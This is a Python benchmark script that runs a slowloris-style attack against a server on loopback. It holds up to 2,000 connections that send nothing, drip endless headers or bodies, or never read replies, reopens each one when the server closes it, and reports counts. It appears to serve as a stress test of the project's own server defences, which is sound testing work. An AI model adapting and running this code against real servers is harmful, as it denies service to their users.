"""Connections that never finish: the attacker of `benchmarks.server.slow_loris`, on loopback.

    python -m benchmarks.server.attack HOST PORT --connections 2000 --addresses 1 --seconds 20

Opens so many connections and opens each again that the server closes. A quarter each sends nothing,
a head that never ends, a body that never ends, or asks and never reads. Prints a line once each was
tried, and counts as JSON in the end.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import socket
import sys
from collections import Counter
from dataclasses import dataclass, field

FIRST_ADDRESS = 2
"""127.0.0.2: the address of the visitor is 127.0.0.1."""
DRIP_S = 2.0
"""Between two bytes of a slow head or body."""
AGAIN_S = 10.0
"""Before a connection that was closed is opened again, on average: all 2,000 in these seconds."""
CONNECT_S = 10.0
"""How long a connection is waited for."""
STARTS = (
    b"",
    b"GET /query?q=a HTTP/1.1\r\nHost: bench\r\nX-Slow: ",
    b"POST /query HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\n"
    b'Content-Length: 9000\r\n\r\n{"question": "',
    b"GET /style.css HTTP/1.1\r\nHost: bench\r\n\r\n",
)
"""What each sort of connection sends first; the last one asks for 12 kB and never reads."""
READ_BUFFER_BYTES = 4096
"""In the kernel, for those that never read."""
DRIPS = (b"", b"x", b"x", b"")
"""What it sends then, again and again."""


@dataclass(frozen=True, slots=True)
class Attack:
    """Which connections to hold, from which addresses, for how long."""

    host: str
    port: int
    connections: int
    addresses: int
    """How many addresses they come from; 0 for that of the visitor."""
    seconds: float
    """How long to hold them, from when each was tried once."""
    tried: set[int] = field(default_factory=set)
    all_tried: asyncio.Event = field(default_factory=asyncio.Event)
    counts: Counter[str] = field(default_factory=Counter)

    async def run(self) -> None:
        """Hold all connections until the time is up."""
        tasks = [asyncio.create_task(self._hold(number)) for number in range(self.connections)]
        if self.connections:
            await self.all_tried.wait()
        sys.stdout.write("all were tried\n")
        sys.stdout.flush()
        await asyncio.sleep(self.seconds)
        for task in tasks:
            task.cancel()

    async def _hold(self, number: int) -> None:
        """Hold one connection, and open it again whenever it is closed."""
        while True:
            try:
                await self._hold_once(number)
            except (OSError, TimeoutError):
                self.counts["failed"] += 1
            self._note(number)
            await asyncio.sleep(random.uniform(0.5, 1.5) * AGAIN_S)

    def _note(self, number: int) -> None:
        self.tried.add(number)
        if len(self.tried) >= self.connections:
            self.all_tried.set()

    async def _hold_once(self, number: int) -> None:
        last = FIRST_ADDRESS + number % self.addresses if self.addresses else 1
        sort = number % len(STARTS)
        loop = asyncio.get_running_loop()
        watcher = Watcher(loop.create_future(), reads=sort != len(STARTS) - 1)
        connection = socket.socket()
        connection.setblocking(False)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READ_BUFFER_BYTES)
        try:
            connection.bind((f"127.0.0.{last}", 0))
            async with asyncio.timeout(CONNECT_S):
                await loop.sock_connect(connection, (self.host, self.port))
        except (OSError, TimeoutError):
            connection.close()
            raise
        transport, _ = await loop.create_connection(lambda: watcher, sock=connection)
        self.counts["opened"] += 1
        self._note(number)
        try:
            transport.write(STARTS[sort])
            while not watcher.closed.done():
                await asyncio.wait([watcher.closed], timeout=DRIP_S)
                transport.write(DRIPS[sort])
            self.counts["closed by the server"] += 1
        finally:
            transport.abort()


class Watcher(asyncio.Protocol):
    """Tells when the server has closed a connection."""

    def __init__(self, closed: asyncio.Future[None], reads: bool) -> None:
        """Read what the server sends, or leave it in the kernel."""
        self.closed, self._reads = closed, reads

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Stop reading, if this one never reads."""
        if not self._reads and isinstance(transport, asyncio.Transport):
            transport.pause_reading()

    def connection_lost(self, error: Exception | None) -> None:
        """Note that it is closed."""
        if not self.closed.done():
            self.closed.set_result(None)


def main() -> None:
    """Attack and print the counts."""
    parser = argparse.ArgumentParser(description="Hold connections that never finish")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--addresses", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=20.0)
    options = parser.parse_args()
    attack = Attack(
        options.host, options.port, options.connections, options.addresses, options.seconds
    )
    asyncio.run(attack.run())
    sys.stdout.write(json.dumps(attack.counts))


if __name__ == "__main__":
    main()
